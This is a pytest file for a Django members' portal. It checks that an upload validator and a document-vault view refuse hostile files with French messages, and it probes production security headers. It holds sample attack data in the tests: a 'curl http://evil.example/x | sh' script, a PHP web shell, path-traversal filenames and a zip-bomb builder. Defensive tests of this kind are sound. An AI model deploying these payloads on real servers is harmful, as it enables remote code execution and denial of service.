"""Hostile uploads are refused with a French message, by the validator and by a real upload view.

Also the production headers: CSP, HSTS and secure cookies, read from a real response of the
production settings (in a subprocess, since those settings refuse to load without their variables).
"""

import io
import json
import os
import subprocess
import sys
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from forim_portal.uploads import MAX_UNCOMPRESSED, SafeFileField, validate_upload
from members.models import OrganisationDocument
from tests.conftest import login

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def zip_bomb(uncompressed=MAX_UNCOMPRESSED + 5 * 1024 * 1024):
    """A .docx whose single member inflates to more than the limit, written in 1 MB chunks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(uncompressed // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb_bytes():
    return zip_bomb()


def refusal(upload, **kwargs):
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload, **kwargs)
    return caught.value


def test_a_script_renamed_pdf_is_refused():
    error = refusal(SimpleUploadedFile("statuts.pdf", SCRIPT, content_type="application/pdf"))
    assert error.code == "content_mismatch"
    assert "ne correspond pas à son extension" in error.messages[0]


def test_a_200_mb_file_is_refused_before_its_content_is_read():
    """A sparse temporary file: reports 200 MB without writing them."""
    upload = TemporaryUploadedFile("rapport.pdf", "application/pdf", 0, None)
    upload.write(PDF)
    upload.file.truncate(200 * 1024 * 1024)
    upload.size = 200 * 1024 * 1024
    try:
        error = refusal(upload)
    finally:
        upload.close()
    assert error.code == "too_large"
    assert error.messages[0].startswith("Fichier trop volumineux (200.0 Mo)")


@pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/var/www/statuts.pdf", "a\x00.pdf"])
def test_a_path_in_the_filename_is_refused(name):
    """Django's UploadedFile strips paths on assignment; an API client's raw name is set as received."""
    upload = SimpleUploadedFile("statuts.pdf", PDF)
    upload._name = name
    error = refusal(upload)
    assert error.code == "path_in_name"
    assert error.messages == ["Le nom du fichier ne doit pas contenir de chemin."]


def test_a_zip_bomb_docx_is_refused(bomb_bytes):
    assert len(bomb_bytes) < 2 * 1024 * 1024  # small on the wire, > 100 MB once inflated
    error = refusal(SimpleUploadedFile("budget.docx", bomb_bytes))
    assert error.code == "zip_bomb"
    assert "volume anormal" in error.messages[0]


def test_a_real_docx_and_pdf_pass():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w:document>Budget prévisionnel 2026</w:document>")
    assert validate_upload(SimpleUploadedFile("Budget prévisionnel.docx", buffer.getvalue())) == "Budget-previsionnel.docx"
    assert validate_upload(SimpleUploadedFile("statuts.pdf", PDF)) == "statuts.pdf"


def test_safe_file_field_refuses_with_the_same_french_messages():
    field = SafeFileField()
    with pytest.raises(ValidationError) as caught:
        field.clean(SimpleUploadedFile("statuts.pdf", SCRIPT))
    assert "ne correspond pas à son extension" in caught.value.messages[0]
    with pytest.raises(ValidationError) as caught:
        field.clean(SimpleUploadedFile("outil.exe", b"MZ\x90\x00"))
    assert caught.value.messages[0].startswith("Type de fichier non accepté (« exe »)")


# --- through the members' document vault (a real upload view) ---------------------------------


def post_document(client, organisation, upload):
    return client.post(
        f"/reseau/organisations/{organisation.pk}/documents/ajouter/",
        {"doc_type": "statutes", "year": "2025", "title": "Statuts", "file": upload},
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("statuts.pdf", SCRIPT, "ne correspond pas à son extension"),
        ("statuts.php", b"<?php system($_GET['c']); ?>", "Type de fichier non accepté"),
    ],
)
def test_the_vault_view_refuses_hostile_files(client, applicant, association, name, content, message):
    response = post_document(login(client, applicant), association, SimpleUploadedFile(name, content))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not OrganisationDocument.objects.exists()


@pytest.mark.django_db
def test_the_vault_view_refuses_a_zip_bomb(client, applicant, association, bomb_bytes):
    response = post_document(login(client, applicant), association, SimpleUploadedFile("statuts.docx", bomb_bytes))
    assert "volume anormal" in response.content.decode()
    assert not OrganisationDocument.objects.exists()


@pytest.mark.django_db
def test_the_vault_view_refuses_a_file_over_the_limit(client, applicant, association, settings):
    settings.MAX_UPLOAD_SIZE = 64 * 1024
    response = post_document(login(client, applicant), association, SimpleUploadedFile("statuts.pdf", PDF + b"0" * 70_000))
    assert "Fichier trop volumineux" in response.content.decode()
    assert not OrganisationDocument.objects.exists()


@pytest.mark.django_db
def test_the_vault_view_stores_a_path_named_file_under_its_base_name_only(client, applicant, association):
    """Django's multipart parser drops the path; what is stored stays inside the organisation's folder."""
    response = post_document(login(client, applicant), association, SimpleUploadedFile("../../../etc/statuts.pdf", PDF))
    assert response.status_code == 302
    document = OrganisationDocument.objects.get()
    assert document.file.name.startswith(f"organisations/{association.pk}/statutes/")
    assert ".." not in document.file.name
    assert document.original_name == "statuts.pdf"


# --- production settings ------------------------------------------------------------------------

PROBE = """
import json, django
django.setup()
from django.test import Client
r = Client().get("/connexion/", secure=True, HTTP_HOST="portail.forim.net")
print(json.dumps({"status": r.status_code, "headers": dict(r.headers),
                  "cookies": {k: {"secure": bool(v["secure"]), "httponly": bool(v["httponly"])} for k, v in r.cookies.items()}}))
"""


def test_production_sends_csp_hsts_and_secure_cookies(tmp_path):
    env = {
        **{k: v for k, v in os.environ.items() if k != "DJANGO_ALLOW_ASYNC_UNSAFE"},
        "DJANGO_SETTINGS_MODULE": "forim_portal.settings.production",
        "STATICFILES_BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage",
        "SECRET_KEY": "p" * 40 + "-production-probe-secret-0123456789",
        "ALLOWED_HOSTS": "portail.forim.net",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'probe.sqlite3'}",
        "PYTHONPATH": ROOT,
    }
    result = subprocess.run([sys.executable, "-c", PROBE], cwd=ROOT, env=env, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    probe = json.loads(result.stdout.strip().splitlines()[-1])
    headers = probe["headers"]
    assert probe["status"] == 200
    csp = headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp
    assert "script-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp
    assert headers["Strict-Transport-Security"].startswith("max-age=31536000")
    assert "includeSubDomains" in headers["Strict-Transport-Security"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert probe["cookies"]["csrftoken"]["secure"] is True
